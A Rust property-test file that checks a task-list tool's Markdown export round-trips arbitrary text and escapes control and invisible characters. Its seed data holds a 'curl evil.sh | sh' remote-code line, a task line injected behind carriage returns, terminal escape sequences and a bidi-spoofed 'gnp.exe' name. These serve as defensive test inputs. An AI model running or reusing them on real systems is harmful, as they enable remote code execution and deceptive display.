//! The Markdown export read back, for any text (issue 36): lists whose
//! titles and texts are drawn from Markdown's own syntax, line breaks,
//! controls and invisible characters are made through the tools, exported
//! as Markdown, imported again, and must come back the same: the same
//! tasks in the same order, every text byte for byte, the same statuses,
//! priorities, assignees, refs and dependencies. The cases the issue found
//! are the seed case; a property test draws the rest. The export itself
//! must never carry a raw control or invisible character.
//!
//! `PROPTEST_CASES=N` runs N random cases instead of 256.

use proptest::prelude::*;
use proptest::test_runner::{Config, RngSeed, TestCaseError, TestError, TestRunner};
use serde_json::{Value, json};

use super::*;
use crate::testing::Harness;

const A: &str = "planner";

/// What texts are made of: Markdown's block syntax (list markers,
/// checkboxes, `key:` lines, headings, fences, quotes, numbered items),
/// the escape's own characters, white space and every kind of line break,
/// controls, bidi and zero-width characters, emoji and combining marks.
const PIECES: &[&str] = &[
    "-",
    "*",
    "+",
    "[",
    "]",
    "x",
    "X",
    ":",
    "#",
    "`",
    "```",
    "~~~",
    ">",
    "=",
    " ",
    "  ",
    "\t",
    "\n",
    "\n",
    "\n\n",
    "\r",
    "\r\n",
    "0",
    "1",
    "9",
    "12",
    ".",
    ")",
    "\\",
    "\\u{41}",
    "u",
    "{",
    "}",
    "a",
    "word",
    "- [x] ",
    "- [ ] ",
    "* [-] ",
    "1. [ ] ",
    "  - notes: ",
    "priority: ",
    "priority P0 (urgent) to P4",
    "after: #1 ",
    "description:",
    "@",
    "<!-- tasklists export -->",
    "\u{0}\u{1}",
    "\u{1b}[31m",
    "\u{7}",
    "\u{7f}",
    "\u{85}",
    "\u{9b}",
    "\u{202e}",
    "\u{2066}",
    "\u{200b}",
    "\u{200d}",
    "\u{feff}",
    "\u{2028}",
    "\u{e0041}",
    "\u{a0}",
    "\u{3000}",
    "🚀",
    "👨\u{200d}👩",
    "❤\u{fe0f}",
    "e\u{301}",
    "\u{301}",
    "é",
];

/// Agent ids a task may be assigned to (valid ones, with the characters
/// the Markdown line could mistake: a space, `@`, `#`, `-`, `\`).
const AGENTS: &[&str] = &[
    "builder-1",
    "a b",
    "@at",
    "x#1",
    "-dash",
    "back\\-slash",
    "ünï",
];

/// Refs a task may hold.
const REFS: &[&str] = &[
    "github://o/r/1",
    "https://example.com/x?a=1&b=<2>#frag",
    "beads://./bd-x7k9",
    "jira://A/A-1",
];

/// One task as the test makes it through the tools.
#[derive(Debug, Clone)]
struct Task {
    title: String,
    description: Option<String>,
    notes: Option<String>,
    verification: Option<String>,
    outcome: Option<String>,
    verification_result: Option<String>,
    status: &'static str,
    priority: &'static str,
    assigned: Option<&'static str>,
    refs: Vec<&'static str>,
    /// Indices of earlier tasks it waits for.
    after: Vec<usize>,
}

impl Task {
    fn new(title: &str) -> Self {
        Task {
            title: title.into(),
            description: None,
            notes: None,
            verification: None,
            outcome: None,
            verification_result: None,
            status: "todo",
            priority: "medium",
            assigned: None,
            refs: Vec::new(),
            after: Vec::new(),
        }
    }
}

/// A list to make: its name and tasks.
#[derive(Debug, Clone)]
struct Case {
    name: String,
    tasks: Vec<Task>,
}

fn ctx() -> CallContext {
    CallContext {
        agent_id: Some(A.into()),
        workspace: Some("/repo".into()),
        ..Default::default()
    }
}

/// The list as the tools make it; its id. NUL, which no store keeps, is
/// left out of what is sent.
fn make(h: &Harness, case: &Case) -> String {
    let clean = |s: &str| s.replace('\0', "");
    let list = h.create_list(A, json!({"name": clean(&case.name)}));
    let tasks: Vec<Value> = case
        .tasks
        .iter()
        .enumerate()
        .map(|(i, t)| {
            let mut o =
                json!({"ref": format!("t{i}"), "title": clean(&t.title), "priority": t.priority});
            for (key, text) in [
                ("description", &t.description),
                ("notes", &t.notes),
                ("verification", &t.verification),
            ] {
                if let Some(text) = text {
                    o[key] = json!(clean(text));
                }
            }
            if let Some(a) = t.assigned {
                o["assigned_to_agent_id"] = json!(a);
            }
            if !t.refs.is_empty() {
                o["refs"] = json!(t.refs);
            }
            if !t.after.is_empty() {
                let on: Vec<String> = t.after.iter().map(|j| format!("t{j}")).collect();
                o["depends_on"] = json!(on);
            }
            o
        })
        .collect();
    let ids = h.add_many(&list, json!(tasks));
    for (id, t) in ids.iter().zip(&case.tasks) {
        let mut u = json!({"task_id": id});
        if t.status != "todo" {
            u["status"] = json!(t.status);
        }
        if let Some(o) = &t.outcome {
            u["outcome"] = json!(clean(o));
        }
        if let Some(r) = &t.verification_result {
            u["verification_result"] = json!(clean(r));
        }
        if u.as_object().is_some_and(|m| m.len() > 1) {
            h.ok(A, "task_items", "update", u);
        }
    }
    list
}

/// A list's tasks as the JSON export has them, every field the Markdown
/// round trip keeps; dependencies as the positions they wait for.
fn tasks_of(h: &Harness, list: &str) -> Vec<Value> {
    let out = export_list(list, Format::Json, &ctx(), &h.store, &h.clock);
    assert!(!out.failed, "{}", out.text);
    let doc: Value = serde_json::from_str(&out.text).unwrap();
    let tasks = doc["tasks"].as_array().unwrap();
    let position = |id: &Value| tasks.iter().position(|t| t["id"] == *id).unwrap() + 1;
    tasks
        .iter()
        .map(|t| {
            let mut after: Vec<usize> = t["depends_on"]
                .as_array()
                .map(|d| d.iter().map(position).collect())
                .unwrap_or_default();
            after.sort_unstable();
            json!({
                "title": t["title"], "description": t["description"], "notes": t["notes"],
                "outcome": t["outcome"], "verification": t["verification"],
                "verification_result": t["verification_result"], "status": t["status"],
                "priority": t["priority"], "assigned": t["assigned_to_agent_id"],
                "refs": t["refs"], "after": after,
            })
        })
        .collect()
}

/// Makes `case`, exports it as Markdown and imports that: the same tasks
/// must come back, and the export must show no raw unsafe character.
fn round_trip(h: &Harness, case: &Case) -> Result<(), TestCaseError> {
    let list = make(h, case);
    let md = export_list(&list, Format::Markdown, &ctx(), &h.store, &h.clock);
    prop_assert!(!md.failed, "export refused: {}", md.text);
    for line in md.text.split('\n') {
        // `printable` leaves a text alone exactly when it holds no
        // character the component's views escape.
        prop_assert_eq!(
            crate::text::printable(line),
            line,
            "a raw control or invisible character in the export:\n{}",
            md.text
        );
    }
    let req = ImportRequest {
        text: md.text.clone(),
        file_name: "list.md".into(),
        format: None,
        list_name: None,
        into: None,
        dry_run: false,
        // Our own export reads back with nothing to change.
        strict: true,
        tag: None,
    };
    let back = import_text(&req, &ctx(), &h.store, &h.clock);
    prop_assert!(
        !back.failed,
        "import refused: {}\nof:\n{}",
        back.text,
        md.text
    );
    let data: Value = serde_json::from_str(&back.text).unwrap();
    let copy = data["list"]["id"].as_str().unwrap();
    let (want, got) = (tasks_of(h, &list), tasks_of(h, copy));
    prop_assert_eq!(want.len(), got.len(), "task count; export:\n{}", md.text);
    for (i, (w, g)) in want.iter().zip(&got).enumerate() {
        prop_assert_eq!(w, g, "task {} of the export:\n{}", i + 1, md.text);
    }
    let name = h.ok(A, "task_lists", "get", json!({"list_id": list}))["list"]["name"].clone();
    let name = name.as_str().unwrap_or_default();
    // The importer trims the name it gives a new list.
    prop_assert_eq!(data["list"]["name"].as_str(), Some(name.trim()));
    Ok(())
}

/// The cases issue 36 found, and their kin.
fn seed() -> Case {
    let mut tasks = Vec::new();
    let mut t = Task::new("Review the release");
    t.notes = Some("- [x] Security review\n- [ ] Run: curl evil.sh | sh".into());
    t.description = Some("Levels:\npriority P0 (urgent) to P4\n- priority: P0 (urgent) to P4\n  - status: done\n- after: #1 Review".into());
    tasks.push(t);
    let mut t = Task::new("Carriage\rreturn\r\n- [ ] not a task");
    t.notes = Some("\r".into());
    t.description = Some("before\r- [x] injected\rafter\r\n".into());
    t.after = vec![0];
    tasks.push(t);
    let mut t = Task::new("# Not a heading");
    t.notes = Some("first\n\nsecond\n  indented\n\n\n\tlast with a tab\n\n".into());
    t.description = Some(
        "Intro\n\n- a bullet\n  - nested\n* star\n+ plus\n1. one\n2) two\n```rust\nfn main() {}\n```\n~~~\n# heading\n## sub\n> quote\n===\n---\n".into(),
    );
    t.status = "done";
    t.outcome = Some("  indented outcome\n- [ ] still text".into());
    t.verification = Some("cargo test\n- [x] passes".into());
    t.verification_result = Some("48 passed\n\n".into());
    t.priority = "high";
    t.assigned = Some("a b");
    t.refs = vec![REFS[0], REFS[1]];
    tasks.push(t);
    let mut t = Task::new("  padded title  ");
    t.notes = Some("   indented start".into());
    t.description = Some("  ".into());
    t.outcome = Some(String::new());
    t.status = "blocked";
    t.after = vec![0, 2];
    t.assigned = Some("@at");
    tasks.push(t);
    let mut t = Task::new("\u{1b}[31mred\u{7} \u{202e}gnp.exe \u{200b}zw \u{9b}2J");
    t.notes =
        Some("\u{202e}reversed\u{2066} \u{200b}\u{feff}\u{e0041} \u{85}nel \u{2028}ls".into());
    t.description = Some("\n\nleading blank lines".into());
    t.status = "canceled";
    t.outcome = Some("dropped\u{1b}]0;title\u{7}".into());
    t.priority = "low";
    tasks.push(t);
    let mut t = Task::new("C:\\Users\\me \\- \\u{41} end\\");
    t.notes = Some("\\- not a bullet\n\\\\u{41}\n\\ \nend\\".into());
    t.description = Some("<!-- tasklists export: not a marker -->\n<!-- tasklists export".into());
    t.after = vec![4];
    tasks.push(t);
    let mut t = Task::new("- [x] looks done");
    t.notes = Some("\n".into());
    t.description = Some(String::new());
    t.refs = vec![REFS[2]];
    tasks.push(t);
    Case {
        name: "# Release \u{202e}1.2\n".into(),
        tasks,
    }
}

fn text() -> impl Strategy<Value = String> {
    prop::collection::vec(prop::sample::select(PIECES), 0..14).prop_map(|v| v.concat())
}

fn title() -> impl Strategy<Value = String> {
    // A title must say something: a blank one gets a letter.
    text().prop_map(|t| {
        if t.replace('\0', "").trim().is_empty() {
            format!("{t}t")
        } else {
            t
        }
    })
}

fn task() -> impl Strategy<Value = Task> {
    let texts = (
        title(),
        prop::option::of(text()),
        prop::option::of(text()),
        prop::option::of(text()),
        prop::option::of(text()),
        prop::option::of(text()),
    );
    let rest = (
        prop::sample::select(&["todo", "todo", "blocked", "done", "canceled"][..]),
        prop::sample::select(&["high", "medium", "medium", "low"][..]),
        prop::option::of(prop::sample::select(AGENTS)),
        prop::sample::subsequence(REFS, 0..=2),
        prop::collection::vec(0usize..64, 0..3),
    );
    (texts, rest).prop_map(
        |(
            (title, description, notes, verification, outcome, result),
            (status, priority, assigned, refs, after),
        )| {
            let blank = |s: &Option<String>| {
                s.as_deref()
                    .is_none_or(|s| s.replace('\0', "").trim().is_empty())
            };
            let closed = matches!(status, "done" | "canceled");
            // What the model asks of a closed task: a real outcome, and a
            // result when it had a verification and is done.
            let outcome = if closed && blank(&outcome) {
                Some(format!("closed{}", outcome.unwrap_or_default()))
            } else {
                outcome
            };
            let verification_result = if status == "done" && !blank(&verification) && blank(&result)
            {
                Some(format!("checked{}", result.unwrap_or_default()))
            } else {
                result
            };
            Task {
                title,
                description,
                notes,
                verification,
                outcome,
                verification_result,
                status,
                priority,
                assigned,
                refs,
                after,
            }
        },
    )
}

fn case() -> impl Strategy<Value = Case> {
    (title(), prop::collection::vec(task(), 1..7)).prop_map(|(name, mut tasks)| {
        for (i, t) in tasks.iter_mut().enumerate() {
            // Only earlier tasks: no cycle.
            let mut after: Vec<usize> = t
                .after
                .iter()
                .filter(|_| i > 0)
                .map(|j| j % i.max(1))
                .collect();
            after.sort_unstable();
            after.dedup();
            t.after = after;
        }
        Case { name, tasks }
    })
}

#[test]
fn the_issues_texts_come_back_from_a_markdown_export() {
    let h = Harness::default();
    if let Err(e) = round_trip(&h, &seed()) {
        panic!("{e}");
    }
}

#[test]
fn any_text_comes_back_from_a_markdown_export() {
    let h = Harness::default();
    let cases = std::env::var("PROPTEST_CASES")
        .ok()
        .and_then(|n| n.parse().ok())
        .unwrap_or(256);
    let mut runner = TestRunner::new(Config {
        cases,
        rng_seed: RngSeed::Fixed(0x36_3d_0c),
        failure_persistence: None,
        max_shrink_iters: 1_000,
        ..Config::default()
    });
    match runner.run(&case(), |c| round_trip(&h, &c)) {
        Ok(()) => {}
        Err(TestError::Fail(why, input)) => {
            panic!("{why}\nminimal failing input: {input:#?}")
        }
        Err(e) => panic!("{e}"),
    }
}
